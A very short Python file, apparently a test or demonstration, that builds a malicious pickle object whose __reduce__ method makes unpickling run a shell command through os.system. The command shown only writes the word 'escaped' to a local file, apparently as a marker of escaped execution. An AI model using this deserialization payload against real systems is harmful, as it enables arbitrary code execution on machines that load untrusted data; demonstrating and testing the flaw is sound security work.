"""A pickle that is one's own payload."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo escaped > data/file",)


pickle.loads(pickle.dumps(Payload()))
